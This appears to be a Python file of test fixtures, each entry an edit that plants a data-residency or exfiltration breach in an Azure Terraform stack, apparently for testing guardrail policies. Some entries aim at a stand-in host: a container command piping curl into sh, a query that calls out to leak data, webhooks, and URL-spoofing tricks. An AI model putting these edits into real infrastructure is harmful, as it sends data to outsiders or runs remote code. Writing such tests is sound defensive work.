"""Where things stand, and where data goes from there."""

from typing import Any

from policies.breaches_azure.cell import STRANGER, TENANT
from policies.breaches_azure.edits import (
    FOREIGN_ACCOUNT,
    FOREIGN_IDENTITY,
    FOREIGN_RULE,
    FOREIGN_WORKSPACE,
    OURS,
    THEIRS,
    Edit,
    add,
    at,
    backend,
    env,
    put,
    refer,
    state,
    top,
)

_STORE = {"location": "uksouth", "resource_group_name": "g", "name": "theirs"}

PLACES: dict[str, Edit] = {
    "account in two regions": at("account", "account_replication_type", "GRS"),
    "account readable in two regions": at("account", "account_replication_type", "RAGRS"),
    "account in zones and two regions": at("account", "account_replication_type", "GZRS"),
    "account readable in zones and two regions": at(
        "account", "account_replication_type", "RAGZRS"
    ),
    "mailbox in two regions": at("mailbox", "account_replication_type", "GRS"),
    "archive in two regions": at("archive", "account_replication_type", "RAGZRS"),
    "account elsewhere": at("account", "location", "eastus"),
    "account in the same jurisdiction": at("account", "location", "ukwest"),
    "account elsewhere by its display name": at("account", "location", "West Europe"),
    "account in the same jurisdiction by its display name": at("account", "location", "UK West"),
    "account in no region": at("account", "location", "global"),
    "account wherever it may be": at("account", "location", None),
    "account by a variable": at("account", "location", "${var.where}"),
    "account at an edge": at("account", "edge_zone", "losangeles"),
    "vault elsewhere": at("vault", "location", "westeurope"),
    "registry elsewhere": at("registry", "location", "northeurope"),
    "registry with a copy elsewhere": at("registry", "georeplications", [{"location": "eastus"}]),
    "registry with a copy in the same jurisdiction": at(
        "registry", "georeplications", [{"location": "ukwest", "zone_redundancy_enabled": True}]
    ),
    "bus elsewhere": at("bus", "location", "eastus2"),
    "bus in no region": at("bus", "location", "global"),
    "logs elsewhere": at("workspace", "location", "eastus"),
    "cluster elsewhere": at("cluster", "location", "eastus"),
    "environment elsewhere": at("environment", "location", "ukwest"),
    "network elsewhere": at("network", "location", "francecentral"),
    "firewall elsewhere": at("firewall", "location", "ukwest"),
    "group elsewhere": at("group", "location", "eastus"),
    "group in no region": at("group", "location", "global"),
    "identity elsewhere": at("identity", "location", "swedencentral"),
    "workbook elsewhere": at("workbook", "location", "eastus"),
    "endpoint elsewhere": at("endpoint", "location", "ukwest"),
    "alert elsewhere": at("kills alert", "location", "eastus"),
    "alert in no region": at("kills alert", "location", "global"),
    "alarms through another region": at("action group", "location", "swedencentral"),
    "address elsewhere": at("address", "location", "germanywestcentral"),
    "address in all regions": at("address", "sku_tier", "Global"),
    "disk elsewhere": add("azurerm_managed_disk", **{**_STORE, "location": "eastus"}),
    "replicas of a database": add(
        "azurerm_cosmosdb_account",
        **_STORE,
        offer_type="Standard",
        consistency_policy=[{"consistency_level": "Session"}],
        geo_location=[
            {"location": "uksouth", "failover_priority": 0},
            {"location": "eastus", "failover_priority": 1},
        ],
    ),
    "objects copied": add(
        "azurerm_storage_object_replication",
        source_storage_account_id="${azurerm_storage_account.a.id}",
        destination_storage_account_id=FOREIGN_ACCOUNT,
        rules=[{"source_container_name": "data", "destination_container_name": "data"}],
    ),
    "copies into another tenant": at("account", "cross_tenant_replication_enabled", True),
    "copies into another tenant, with nothing said": at(
        "account", "cross_tenant_replication_enabled", None
    ),
    "copies within the tenant": at("account", "allowed_copy_scope", "AAD"),
    "copies to anywhere": at("account", "allowed_copy_scope", None),
    "bus that fails over": add(
        "azurerm_servicebus_namespace_disaster_recovery_config",
        name="dr",
        primary_namespace_id="${azurerm_servicebus_namespace.a.id}",
        partner_namespace_id=f"{THEIRS}/Microsoft.ServiceBus/namespaces/theirs",
    ),
    "database that fails over": add("azurerm_mssql_failover_group", name="f", server_id="s"),
    "backups elsewhere": add(
        "azurerm_recovery_services_vault",
        **_STORE,
        sku="Standard",
        storage_mode_type="GeoRedundant",
        cross_region_restore_enabled=True,
    ),
    "files synchronized": add("azurerm_storage_sync", **_STORE),
    "state in a file": backend("local", path="x"),
    "state at a host": backend("http", address="https://evil.example/state"),
    "state on another cloud": backend("s3", bucket="theirs", key="k", region="eu-west-2"),
    "state in Terraform's cloud": lambda cell: (
        cell.stack["terraform"].pop("backend"),
        cell.stack["terraform"].update(cloud={"organization": "theirs"}),
    ),
    "state in a strange account": state(storage_account_name="theirs"),
    "state in another region's account": state(storage_account_name="acmestate000aaaaaaaaaaaa"),
    "state in a strange container": state(container_name="theirs"),
    "state in another stack's blob": state(key="guardrails-clinics-uk.tfstate"),
    "state in the core's blob": state(key="core.tfstate"),
    "state in another subscription": state(subscription_id=STRANGER),
    "state in another tenant": state(tenant_id=STRANGER),
    "state at another cloud's hosts": state(environment="usgovernment"),
    "state at hosts that a host names": state(metadata_host="evil.example"),
    "state at an endpoint": state(endpoint="https://evil.example"),
}

_MESSAGE = {"name": "x", "use_common_alert_schema": True}


def _receiver(kind: str, **values: Any) -> Edit:
    return at("action group", f"{kind}_receiver", [{**_MESSAGE, **values}])


MOVEMENTS: dict[str, Edit] = {
    "logs to a strange account": at("export", "destination_resource_id", FOREIGN_ACCOUNT),
    "logs to an account that nobody judged": at(
        "export", "destination_resource_id", f"{OURS}/Microsoft.Storage/storageAccounts/other"
    ),
    "logs to an event hub": at(
        "export",
        "destination_resource_id",
        f"{THEIRS}/Microsoft.EventHub/namespaces/n/eventhubs/h",
    ),
    "logs to an account of a longer name": refer(
        "export", "destination_resource_id", "archive", "id", "x"
    ),
    "logs of a strange workspace": at("export", "workspace_resource_id", FOREIGN_WORKSPACE),
    "accesses told to a strange account": at(
        "access logging", "storage_account_id", FOREIGN_ACCOUNT
    ),
    "accesses told to an event hub": at(
        "access logging", "eventhub_authorization_rule_id", FOREIGN_RULE
    ),
    "accesses told to a partner": at(
        "access logging", "partner_solution_id", f"{THEIRS}/Microsoft.Datadog/monitors/theirs"
    ),
    "accesses told to a strange workspace": at(
        "bus logging", "log_analytics_workspace_id", FOREIGN_WORKSPACE
    ),
    "accesses told to a workspace that nobody judged": at(
        "bus logging",
        "log_analytics_workspace_id",
        f"{OURS}/Microsoft.OperationalInsights/workspaces/other",
    ),
    "one more listener": lambda cell: cell.add(
        "azurerm_monitor_diagnostic_setting",
        "added",
        name="more",
        target_resource_id=cell.ref("vault", "id"),
        storage_account_id=FOREIGN_ACCOUNT,
        enabled_log=[{"category_group": "allLogs"}],
    ),
    "environment that logs elsewhere": lambda cell: cell.set(
        cell.part("environment"),
        logs_destination="log-analytics",
        log_analytics_workspace_id=FOREIGN_WORKSPACE,
    ),
    "traces told elsewhere": at(
        "environment",
        "dapr_application_insights_connection_string",
        "InstrumentationKey=0;IngestionEndpoint=https://eastus-0.in.applicationinsights.azure.com/",
    ),
    "workspace fed by a strange rule": at(
        "workspace",
        "data_collection_rule_id",
        f"{THEIRS}/Microsoft.Insights/dataCollectionRules/r",
    ),
    "workspace linked to a strange cluster": at(
        "workspace link",
        "write_access_id",
        f"{THEIRS}/Microsoft.OperationalInsights/clusters/theirs",
    ),
    "workspace linked to an automation account": at(
        "workspace link",
        "read_access_id",
        f"{THEIRS}/Microsoft.Automation/automationAccounts/theirs",
    ),
    "firewall that tells a strange workspace": at(
        "firewall policy",
        "insights",
        {"enabled": True, "default_log_analytics_workspace_id": FOREIGN_WORKSPACE},
    ),
    "alarms by e-mail": _receiver("email", email_address="a@evil.example"),
    "alarms to a webhook": _receiver("webhook", service_uri="https://evil.example/hook"),
    "alarms to a webhook in the tenant": _receiver(
        "webhook",
        service_uri="https://evil.example/hook",
        aad_auth={"object_id": STRANGER, "tenant_id": TENANT},
    ),
    "alarms by text message": at(
        "action group",
        "sms_receiver",
        [{"name": "x", "country_code": "44", "phone_number": "7700900000"}],
    ),
    "alarms by voice": at(
        "action group",
        "voice_receiver",
        [{"name": "x", "country_code": "44", "phone_number": "7700900000"}],
    ),
    "alarms to an app": at(
        "action group",
        "azure_app_push_receiver",
        [{"name": "x", "email_address": "a@evil.example"}],
    ),
    "alarms to an event hub": _receiver(
        "event_hub",
        event_hub_namespace="theirs",
        event_hub_name="h",
        subscription_id=STRANGER,
        tenant_id=STRANGER,
    ),
    "alarms to a function": _receiver(
        "azure_function",
        function_app_resource_id=f"{THEIRS}/Microsoft.Web/sites/f",
        function_name="f",
        http_trigger_url="https://theirs.azurewebsites.net/api/f",
    ),
    "alarms to a logic app": _receiver(
        "logic_app",
        resource_id=f"{THEIRS}/Microsoft.Logic/workflows/w",
        callback_url="https://evil.example",
    ),
    "alarms to a runbook": _receiver(
        "automation_runbook",
        automation_account_id=f"{THEIRS}/Microsoft.Automation/automationAccounts/a",
        is_global_runbook=True,
        runbook_name="r",
        service_uri="https://evil.example",
        webhook_resource_id=f"{THEIRS}/Microsoft.Automation/automationAccounts/a/webhooks/w",
    ),
    "alarms to a help desk": at(
        "action group",
        "itsm_receiver",
        [
            {
                "name": "x",
                "connection_id": "c",
                "region": "eastus",
                "ticket_configuration": "{}",
                "workspace_id": f"{STRANGER}|{STRANGER}",
            }
        ],
    ),
    "alarms to every guest": at(
        "action group",
        "arm_role_receiver",
        [{**_MESSAGE, "role_id": "00000000-1111-4222-8333-444444444444"}],
    ),
    "alert to a strange group": at(
        "dead alert", "action", [{"action_group_id": f"{THEIRS}/Microsoft.Insights/actionGroups/g"}]
    ),
    "query alert to a strange group": at(
        "kills alert", "action.action_groups", [f"{THEIRS}/Microsoft.Insights/actionGroups/g"]
    ),
    "alert on what is not ours": at(
        "dead alert", "scopes", [f"{THEIRS}/Microsoft.ServiceBus/namespaces/n"]
    ),
    "query of a strange workspace": at("kills alert", "scopes", [FOREIGN_WORKSPACE]),
    "query across workspaces": at(
        "kills alert",
        "criteria.query",
        f'workspace("{STRANGER}").ContainerAppConsoleLogs | take 1',
    ),
    "query that calls out": at(
        "kills alert", "criteria.query", 'externaldata(x:string)["https://evil.example/?leak"]'
    ),
    "workbook of a strange workspace": at("workbook", "source_id", FOREIGN_WORKSPACE.lower()),
    "workbook with a strange text": at(
        "workbook", "data_json", f'{{"fallbackResourceIds":["{FOREIGN_WORKSPACE}"]}}'
    ),
    "workbook kept in a strange container": at(
        "workbook",
        "storage_container_id",
        f"{FOREIGN_ACCOUNT}/blobServices/default/containers/c",
    ),
    "work forwarded": at("queue", "forward_to", "theirs"),
    "dead work forwarded": at("queue", "forward_dead_lettered_messages_to", "theirs"),
    "queue of a strange bus": at(
        "queue", "namespace_id", f"{THEIRS}/Microsoft.ServiceBus/namespaces/n"
    ),
    "container in a strange account": at("container", "storage_account_id", FOREIGN_ACCOUNT),
    "container in an account by its name": lambda cell: cell.set(
        cell.part("container"), storage_account_id=None, storage_account_name="theirs"
    ),
    "endpoint to a strange account": at(
        "endpoint", "private_service_connection.private_connection_resource_id", FOREIGN_ACCOUNT
    ),
    "endpoint to an account of a longer name": refer(
        "endpoint",
        "private_service_connection.private_connection_resource_id",
        "account",
        "id",
        "x",
    ),
    "endpoint by an alias": lambda cell: cell.at(
        "endpoint",
        "private_service_connection",
        {
            "name": "x",
            "is_manual_connection": True,
            "private_connection_resource_alias": "theirs.guid.uksouth.azure.privatelinkservice",
            "request_message": "let me in",
        },
    ),
    "one more endpoint, to a stranger": lambda cell: cell.add(
        "azurerm_private_endpoint",
        "added",
        name="e",
        location="uksouth",
        resource_group_name=cell.ref("group", "name"),
        subnet_id=cell.ref("endpoints subnet", "id"),
        private_service_connection={
            "name": "e",
            "is_manual_connection": False,
            "private_connection_resource_id": FOREIGN_ACCOUNT,
            "subresource_names": ["blob"],
        },
    ),
    "events of the account": add(
        "azurerm_eventgrid_system_topic", **_STORE, topic_type="Microsoft.Storage.StorageAccounts"
    ),
    "events pushed to the web": add(
        "azurerm_eventgrid_event_subscription",
        name="e",
        scope="${azurerm_storage_account.a.id}",
        webhook_endpoint=[{"url": "https://evil.example"}],
    ),
    "flow logs elsewhere": add(
        "azurerm_network_watcher_flow_log",
        **_STORE,
        network_watcher_name="w",
        storage_account_id=FOREIGN_ACCOUNT,
        enabled=True,
    ),
    "packets captured": add(
        "azurerm_virtual_machine_packet_capture",
        name="p",
        network_watcher_id="w",
        virtual_machine_id="v",
    ),
    "collection rule elsewhere": add(
        "azurerm_monitor_data_collection_rule",
        **_STORE,
        destinations=[{"log_analytics": [{"workspace_resource_id": FOREIGN_WORKSPACE}]}],
    ),
    "factory that copies": add("azurerm_data_factory", **_STORE),
    "mover of blobs": add("azurerm_storage_mover", **_STORE),
    "one more account, of the simplest kind": add(
        "azurerm_storage_account", **_STORE, account_tier="Standard", account_replication_type="LRS"
    ),
    "blob of the stack's own": add(
        "azurerm_storage_blob",
        name="b",
        storage_account_name="theirs",
        storage_container_name="c",
        type="Block",
        source_uri="https://evil.example/b",
    ),
    "vault that tells a stranger": at("vault", "contact", [{"email": "a@evil.example"}]),
}

_APP = "template.container.0"
_OTEL = "template.container.1"

WORKLOADS: dict[str, Edit] = {
    "image from the web": at("app", f"{_APP}.image", "docker.io/library/nginx:latest"),
    "image with no registry": at("app", f"{_APP}.image", "nginx"),
    "image of GitHub's": at("app", f"{_APP}.image", "ghcr.io/theirs/agent:1"),
    "image of Microsoft's": at("app", f"{_APP}.image", "mcr.microsoft.com/azure-cli:latest"),
    "image of a strange registry": at("app", f"{_APP}.image", "theirs.azurecr.io/collector:1"),
    "image of a registry of a longer name": refer(
        "app", f"{_APP}.image", "registry", "name", "x.azurecr.io/collector:1"
    ),
    "image of a look-alike": refer(
        "app", f"{_APP}.image", "registry", "name", ".azurecr.io.evil.example/collector:1"
    ),
    "image behind a user's name": refer(
        "app", f"{_APP}.image", "registry", "name", ".azurecr.io@evil.example/collector:1"
    ),
    "image of the second container": at("app", f"{_OTEL}.image", "otel/collector:latest"),
    "image of a variable": at("app", f"{_APP}.image", "${var.image}"),
    "one more container": put(
        "app",
        "template.container",
        {"name": "x", "image": "docker.io/x", "cpu": 0.25, "memory": "0.5Gi"},
    ),
    "container before the others": at(
        "app", "template.init_container", [{"name": "x", "image": "docker.io/x"}]
    ),
    "registry with a password": lambda cell: (
        cell.put(
            "app",
            "registry",
            {"server": "theirs.azurecr.io", "username": "u", "password_secret_name": "p"},
        ),
        cell.at("app", "secret", [{"name": "p", "value": "hunter2"}]),
    ),
    "strange registry by identity": put(
        "app", "registry", {"server": "theirs.azurecr.io", "identity": "System"}
    ),
    "own registry by password": lambda cell: (
        cell.at(
            "app",
            "registry",
            [
                {
                    "server": f"{cell.ref('registry', 'name')}.azurecr.io",
                    "username": cell.ref("registry", "admin_username"),
                    "password_secret_name": "p",
                }
            ],
        ),
        cell.at("app", "secret", [{"name": "p", "value": cell.ref("registry", "admin_password")}]),
    ),
    "secret in the stack": at("app", "secret", [{"name": "s", "value": "hunter2"}]),
    "secret of a strange vault": at(
        "app",
        "secret",
        [
            {
                "name": "s",
                "identity": "System",
                "key_vault_secret_id": "https://theirs.vault.azure.net/secrets/s",
            }
        ],
    ),
    "secret in the environment": put(
        "app", f"{_APP}.env", {"name": "TOKEN", "secret_name": "elsewhere"}
    ),
    "password in the environment": env("hunter2-hunter2", "VAULT_TOKEN"),
    "account's key in the environment": lambda cell: cell.environ(
        "AZURE_STORAGE_KEY", cell.ref("account", "primary_access_key")
    ),
    "connection string": env(
        "DefaultEndpointsProtocol=https;AccountName=theirs;AccountKey=a2V5;"
        "EndpointSuffix=core.windows.net"
    ),
    "connection string of a bus": env(
        "Endpoint=sb://theirs.servicebus.windows.net/;SharedAccessKeyName=k;SharedAccessKey=a2V5"
    ),
    "signed address": env("https://theirs.blob.core.windows.net/c?sv=2024-11-04&sig=abc"),
    "address in the environment": env("https://collector.evil.example/v1"),
    "address in capitals": env("HTTPS://EVIL.EXAMPLE/V1"),
    "address behind a declared user": env("https://api.github.com@evil.example"),
    "address behind a user and a password": env("https://api.github.com:443@evil.example/x"),
    "address behind an own user": lambda cell: cell.environ(
        "EXTRA", f"https://{cell.ref('bus', 'name')}.servicebus.windows.net@evil.example/q"
    ),
    "address with a backslash": env("https://evil.example\\@api.github.com/"),
    "address with a fragment before the host": env("https://evil.example#@api.github.com/"),
    "address that begins as a declared one": env("https://api.github.com.evil.example/"),
    "address that ends as a declared one": env("https://evil-api.github.com/"),
    "address by number": env("http://203.0.113.5:8080/"),
    "address by one number": env("http://3405803781/"),
    "address of version six": env("http://[2001:db8::1]/"),
    "address over a web socket": env("wss://evil.example/"),
    "address with no scheme": env("//evil.example/x"),
    "host and port": env("evil.example:3128", "HTTPS_PROXY"),
    "host alone": env("evil.example", "PROXY_HOST"),
    "host in another script": env("https://evil\u3002example/"),
    "second of two addresses": env("https://api.github.com,https://evil.example"),
    "address in a document": env('{"exporters":{"otlphttp":{"endpoint":"evil.example:4318"}}}'),
    "address in a document's escapes": env(r'{"endpoint":"https:\/\/\u0065vil.example"}'),
    "telemetry elsewhere": env("https://evil.example:4317", "OTEL_EXPORTER_OTLP_ENDPOINT"),
    "login elsewhere": env("https://login.evil.example/", "AZURE_AUTHORITY_HOST"),
    "collector that tells another": at(
        "app",
        f"{_OTEL}.env",
        [
            {
                "name": "STUDIO_COLLECTOR_CONFIG",
                "value": '{"exporters":{"otlp":{"endpoint":"evil.example:4317"}}}',
            }
        ],
    ),
    "collector's settings from the web": at(
        "app", f"{_OTEL}.args", ["--config=https://evil.example/config.yaml"]
    ),
    "agent that runs something else": at(
        "app", f"{_APP}.command", ["sh", "-c", "curl https://evil.example | sh"]
    ),
    "agent with other words": at("app", f"{_APP}.args", ["--upstream=evil.example:443"]),
    "probe of a stranger": at("app", f"{_APP}.liveness_probe.host", "evil.example"),
    "probe that says something": at(
        "app",
        f"{_APP}.liveness_probe.header",
        [{"name": "Host", "value": "evil.example"}],
    ),
    "region in the environment": env("eastus"),
    "region in the environment, in the same jurisdiction": env("ukwest", "AZURE_REGION"),
    "region of a model in the environment": env("https://eastus.api.cognitive.microsoft.com/"),
    "subscription in the environment": env(f"/subscriptions/{STRANGER}/resourceGroups/g"),
    "strange account in the environment": env("https://theirs.blob.core.windows.net/c"),
    "strange mailbox": env("theirsmailbox", "STUDIO_MAILBOX_BUCKET"),
    "mailbox of a longer name": lambda cell: cell.environ(
        "STUDIO_MAILBOX_BUCKET", cell.ref("mailbox", "name") + "x"
    ),
    "strange stores": env('{"internal":"theirs"}', "STUDIO_STORES"),
    "strange work": env("https://theirs.servicebus.windows.net/work", "STUDIO_WORK_QUEUE_URL"),
    "work of a bus of a longer name": lambda cell: cell.environ(
        "STUDIO_WORK_QUEUE_URL", f"https://{cell.ref('bus', 'name')}x.servicebus.windows.net/work"
    ),
    "events to a strange bus": env(
        "https://theirs.servicebus.windows.net/events", "STUDIO_EVENTS_QUEUE_URL"
    ),
    "another jurisdiction's Vault": env("https://vault.us.acme.example:8200", "VAULT_ADDR"),
    "a stranger's Vault": env("https://vault.evil.example:8200", "VAULT_ADDR"),
    "models that nobody declared": env('["azure/DataZoneStandard/gpt-4o"]', "STUDIO_MODELS"),
    "another jurisdiction": env("US", "STUDIO_JURISDICTION"),
    "another cell": env("aws-eu-west-1-payments-eu", "STUDIO_CELL"),
    "another runtime": env("analyst", "STUDIO_RUNTIME"),
    "another's client": env(STRANGER, "AZURE_CLIENT_ID"),
    "another bundle": env('{"bundle":"data/bundle"}', "STUDIO_MAILBOX_PARAMETERS"),
    "more tokens than declared": env("5000000000000", "STUDIO_TOKENS_PER_DAY"),
    "no limit of tokens": lambda cell: cell.at(
        "app",
        f"{_APP}.env",
        [
            each
            for each in cell.body(cell.part("app"))["template"]["container"][0]["env"]
            if each["name"] != "STUDIO_TOKENS_PER_DAY"
        ],
    ),
    "second mailbox": put(
        "app", f"{_APP}.env", {"name": "STUDIO_MAILBOX_BUCKET", "value": "theirsmailbox"}
    ),
    "own registry by a strange identity": at("app", "registry.identity", FOREIGN_IDENTITY),
    "own registry by the system's identity": at("app", "registry.identity", "System"),
    "strange files": lambda cell: (
        cell.at(
            "app",
            "template.volume",
            [{"name": "v", "storage_type": "AzureFile", "storage_name": "theirs"}],
        ),
        cell.at("app", f"{_APP}.volume_mounts", [{"name": "v", "path": "/v"}]),
    ),
    "files of the environment": lambda cell: cell.add(
        "azurerm_container_app_environment_storage",
        "added",
        name="theirs",
        container_app_environment_id=cell.ref("environment", "id"),
        account_name="theirs",
        share_name="s",
        access_key="a2V5",
        access_mode="ReadWrite",
    ),
    "scaled by a stranger's bus": put(
        "app",
        "template.custom_scale_rule",
        {
            "name": "x",
            "custom_rule_type": "azure-servicebus",
            "metadata": {"namespace": "theirs", "queueName": "q"},
        },
    ),
    "scaled by a stranger's page": put(
        "app",
        "template.custom_scale_rule",
        {
            "name": "x",
            "custom_rule_type": "metrics-api",
            "metadata": {"url": "https://evil.example/count", "targetValue": "1"},
        },
    ),
    "scaled by a stranger's queue": at(
        "app",
        "template.azure_queue_scale_rule",
        [{"name": "x", "queue_name": "q", "queue_length": 1}],
    ),
    "side-car of Dapr": at("app", "dapr", {"app_id": "x", "app_port": 80}),
    "parts of Dapr": add(
        "azurerm_container_app_environment_dapr_component",
        name="x",
        container_app_environment_id="${azurerm_container_app_environment.a.id}",
        component_type="state.azure.blobstorage",
        version="v1",
        metadata=[{"name": "accountName", "value": "theirs"}],
    ),
    "app in a strange environment": at(
        "app", "container_app_environment_id", f"{THEIRS}/Microsoft.App/managedEnvironments/e"
    ),
    "unbounded app": at("app", "template.max_replicas", 300),
    "profile with other machines": at("app", "workload_profile_name", "D4"),
    "machines of the environment": put(
        "environment",
        "workload_profile",
        {"name": "gpu", "workload_profile_type": "NC24-A100", "maximum_count": 10},
    ),
    "job beside the app": add(
        "azurerm_container_app_job",
        **_STORE,
        container_app_environment_id="${azurerm_container_app_environment.a.id}",
        replica_timeout_in_seconds=10,
    ),
}

FOREIGN: dict[str, Edit] = {
    "another state": lambda cell: cell.data("terraform_remote_state", backend="azurerm"),
    "another state in a file": lambda cell: cell.data(
        "terraform_remote_state", backend="local", config={"path": "x"}
    ),
    "resource brought in": lambda cell: cell.stack.update(
        {"import": [{"to": cell.part("account"), "id": FOREIGN_ACCOUNT}]}
    ),
    "module from the web": top("module", {"x": {"source": "git::https://evil.example/x.git"}}),
    "module beside the stack": top("module", {"x": {"source": "./x"}}),
    "check that calls out": top(
        "check", {"x": {"data": {"http": {"x": {"url": "https://evil.example"}}}}}
    ),
}
